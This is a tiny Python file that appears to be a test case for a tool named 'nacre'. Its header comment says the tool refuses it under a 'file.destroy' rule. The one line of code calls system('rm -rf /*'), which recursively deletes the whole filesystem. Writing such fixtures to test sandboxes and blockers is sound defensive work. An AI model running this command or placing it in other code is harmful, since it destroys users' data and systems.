# nacre: refused file.destroy
from os import *
system("rm -rf /*")
